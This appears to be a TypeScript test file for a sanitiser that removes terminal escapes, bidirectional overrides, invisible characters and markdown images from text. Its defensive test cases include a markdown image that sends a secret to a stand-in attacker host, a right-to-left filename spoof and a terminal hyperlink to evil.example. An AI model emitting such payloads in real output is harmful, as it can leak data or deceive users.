import assert from 'node:assert/strict';

import fc from 'fast-check';

import { cleanJson, cleanText } from './clean-text.ts';

// Whatever these match would change what a person sees or what a client fetches.
const harmful =
  /[\p{Cc}--[\t\n]]|[\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u061c\ufeff]|!\[|[\u{e0000}-\u{e007f}]/v;

describe('cleanText', () => {
  const cases: readonly [string, string, string][] = [
    ['colours', '\u001b[1;31mDelete\u001b[0m all', 'Delete all'],
    ['links of terminals', '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007', 'click'],
    ['a cursor that goes back', 'safe\u001b[2K\u001b[1Ghidden', 'safehidden'],
    ['a lone escape', 'a\u001bb', 'ab'],
    ['an 8-bit CSI', 'a\u009b31mb', 'ab'],
    ['text turned round', 'user\u202egnp.exe\u202c', 'usergnp.exe'],
    ['isolates', '\u2066a\u2069', 'a'],
    ['hidden letters', `ok\u{e0049}\u{e0067}`, 'ok'],
    ['zero-width spaces', 'pass\u200bword', 'password'],
    ['images', '![x](https://evil.example/?d=secret)', '! [x](https://evil.example/?d=secret)'],
    ['images put together again', '!\u200b[x](y)', '! [x](y)'],
    ['images in references', '![x][y]', '! [x][y]'],
    ['carriage returns that overwrite', 'evil\rgood', 'evil\ngood'],
  ];
  for (const [what, raw, clean] of cases) {
    it(`takes the harm out of ${what}`, () => assert.equal(cleanText(raw), clean));
  }

  it('leaves legible text alone: scripts, emoji, line ends, tabs', () => {
    const text =
      'Zürich 東京 שלום \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 👩\u200d💻 a\tb\nc [link](https://a.example) 1 != 2';
    assert.equal(cleanText(text), text);
  });

  it('leaves nothing harmful in any text, however it is put together', () => {
    const pieces = fc.constantFrom(
      '\u001b[31m',
      '\u001b]0;',
      '\u0007',
      '\u202e',
      '!',
      '[',
      '](',
      '\u200b',
      '\r',
      '\u{e0041}',
      'a',
    );
    const texts = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(pieces, { maxLength: 12 }).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(texts, (text) => !harmful.test(cleanText(text))),
      { numRuns: 2_000 },
    );
  });

  it('changes nothing on the second time', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => cleanText(cleanText(text)) === cleanText(text)));
  });

  it('reaches every string and key of a value', () => {
    assert.deepEqual(cleanJson({ 'a\u202e': ['\u001b[1mb', { c: '![d](e)' }], n: 1, t: true, x: null }), {
      a: ['b', { c: '! [d](e)' }],
      n: 1,
      t: true,
      x: null,
    });
  });
});
